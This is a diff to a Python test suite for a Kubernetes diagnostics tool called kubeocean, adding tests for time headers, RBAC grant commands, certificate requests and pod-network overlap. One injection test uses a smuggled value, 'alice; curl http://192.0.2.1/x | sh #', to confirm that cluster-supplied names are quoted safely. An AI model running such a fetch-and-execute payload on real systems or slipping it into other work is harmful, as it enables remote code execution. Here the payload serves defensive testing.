@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import base64
 import ipaddress
+import shlex
+import time
 from collections.abc import Iterable
 from datetime import timedelta
 from typing import Any
@@ -12,6 +14,8 @@ import pytest
 from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec
+from hypothesis import given
+from hypothesis import strategies as st
 
 from kubeocean.binding.conditions import CONNECTIVITY_FAILED, VALIDATION_FAILED, Failure
 from kubeocean.doctor import bindings, nodes, servers
@@ -30,6 +34,9 @@ NOW = at("2026-01-05 09:00")
 COMMANDS = Commands("kubectl", "kubectl --context worker")
 DEMO = binding()
 Body = dict[str, Any]
+NETWORKS = st.sampled_from(
+    ["10.1.0.0/16", "10.1.7.0/24", "10.1.8.0/24", "10.2.0.0/16", "10.0.0.0/8", "fd00::/48", "fd00::/64", "fd01::/64"]
+)
 
 
 def only(found: Iterable[Finding]) -> tuple[str, str, str]:
@@ -66,6 +73,12 @@ def stored(resource: Any, *, without: str = "") -> Body:
     spec = body["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]
     spec.pop(without, None)
     return body
+
+
+@pytest.mark.parametrize("header", [None, "", "yesterday", "Mon, 05 Jan 2026 09:00:00 -0000"])
+def test_a_time_that_cannot_be_read_is_not_compared(header: str | None) -> None:
+    assert not list(servers.clock("hub", servers.answered(header), sent=NOW, received=NOW))
+    assert servers.answered("Mon, 05 Jan 2026 09:00:00 GMT") == NOW
 
 
 def test_a_missing_or_old_definition_is_named_with_the_file_to_apply() -> None:
@@ -113,9 +126,22 @@ def test_missing_rights_are_granted_by_the_commands() -> None:
     optional = [each for each in worker_checks("mnt") if not each.essential][:1]
     assert only(bindings.rights(DEMO, optional, user="alice", kubectl="kubectl"))[0] == "warning"
     assert not list(bindings.rights(DEMO, [], user="alice", kubectl="kubectl"))
-    hub = only(bindings.hub_rights(Key("kubeocean-system", "kubeocean-syncer-demo"), missing, kubectl="kubectl"))
+    hub = only(bindings.hub_rights(Key("kubeocean-system", "kubeocean-syncer-demo"), missing, kubectl="kubectl", helm="helm"))
     assert hub[0] == "error" and "ServiceAccount kubeocean-system/kubeocean-syncer-demo may not create pods" in hub[1]
     assert "--user=system:serviceaccount:kubeocean-system:kubeocean-syncer-demo" in hub[2]
+
+
+def test_names_from_a_cluster_cannot_extend_a_proposed_command() -> None:
+    missing = [each for each in worker_checks("mnt") if each.resource == "pods" and each.verb == "create"]
+    hostile = "alice; curl http://192.0.2.1/x | sh #"
+    _, _, commands = only(bindings.rights(DEMO, missing, user=hostile, kubectl="kubectl"))
+    assert shlex.split(commands.splitlines()[1])[-1] == f"--user={hostile}"
+
+
+def test_many_missing_rights_in_the_hub_are_granted_by_the_chart_in_the_same_cluster() -> None:
+    account = Key("kubeocean-system", "kubeocean-syncer-demo")
+    _, _, command = only(bindings.hub_rights(account, worker_checks("mnt"), kubectl="kubectl", helm="helm --kube-context hub"))
+    assert command == "helm --kube-context hub upgrade kubeocean deploy/charts/kubeocean --reset-then-reuse-values"
 
 
 def renewed(seconds: float) -> Lease:
@@ -198,13 +224,13 @@ def test_an_answer_of_the_kubelet_server_proves_that_its_port_is_reached() -> No
         assert not list(nodes.kubelet_port(served("10.0.0.1"), failure, kubectl="kubectl"))
 
 
-def request(address: str, **status: Any) -> Any:
+def request(address: str, *, at: str = "2026-01-05T07:00:00Z", username: str = "me", **status: Any) -> Any:
     key = ec.generate_private_key(ec.SECP256R1())
     names = x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address(address))])
     made = x509.CertificateSigningRequestBuilder().subject_name(x509.Name([])).add_extension(names, critical=False)
     pem = made.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)
-    spec = {"signerName": nodes.SERVING, "request": base64.b64encode(pem).decode()}
-    return unknown({"metadata": {"name": "csr-1"}, "spec": spec, "status": status})
+    spec = {"signerName": nodes.SERVING, "request": base64.b64encode(pem).decode(), "username": username}
+    return unknown({"metadata": {"name": "csr-1", "creationTimestamp": at}, "spec": spec, "status": status})
 
 
 def test_a_certificate_that_waits_for_approval_is_named() -> None:
@@ -217,11 +243,36 @@ def test_a_certificate_that_waits_for_approval_is_named() -> None:
     assert not list(nodes.certificates(others, own, kubectl="kubectl"))
 
 
+def test_only_the_latest_request_for_an_address_counts_and_its_author_is_named() -> None:
+    own = [served("10.0.0.1")]
+    denied = request("10.0.0.1", conditions=[{"type": "Denied", "status": "True"}])
+    for earlier in (denied, request("10.0.0.1")):
+        issued = request("10.0.0.1", at="2026-01-05T08:00:00Z", certificate="x", conditions=[{"type": "Approved"}])
+        assert not list(nodes.certificates([issued, earlier], own, kubectl="kubectl"))
+    again = [request("10.0.0.1", certificate="x"), request("10.0.0.1", at="2026-01-05T08:00:00Z", username="mallory")]
+    assert "requested by mallory" in only(nodes.certificates(again, own, kubectl="kubectl"))[1]
+
+
 def test_overlapping_pod_networks_are_named() -> None:
     here, there = node({"podCIDRs": ["10.1.0.0/16", "fd00::/64"]}, name="a"), node({"podCIDR": "10.1.7.0/24"}, name="b")
     level, problem, _ = only(nodes.networks([here], [there]))
     assert level == "warning" and "10.1.0.0/16 of Node a in the hub overlaps 10.1.7.0/24 of Node b" in problem
     assert not list(nodes.networks([here], [node({"podCIDR": "10.2.0.0/24"}), node()]))
+
+
+@given(hub=st.lists(NETWORKS, max_size=4), worker=st.lists(NETWORKS, max_size=4))
+def test_pod_networks_overlap_exactly_when_two_of_them_do(hub: list[str], worker: list[str]) -> None:
+    pairs = [(ipaddress.ip_network(a), ipaddress.ip_network(b)) for a in hub for b in worker]
+    expected = any(a.version == b.version and a.overlaps(b) for a, b in pairs)
+    found = list(nodes.networks([node({"podCIDRs": hub})], [node({"podCIDR": each}) for each in worker]))
+    assert bool(found) is expected
+
+
+def test_pod_networks_of_thousands_of_nodes_are_compared_within_seconds() -> None:
+    hub, worker = ([node({"podCIDR": f"{first}.{number // 256}.{number % 256}.0/24"}) for number in range(3000)] for first in (10, 11))
+    began = time.process_time()
+    assert not list(nodes.networks(hub, worker))
+    assert time.process_time() - began < 5.0
 
 
 def test_pods_without_a_route_from_the_hub_are_named() -> None:
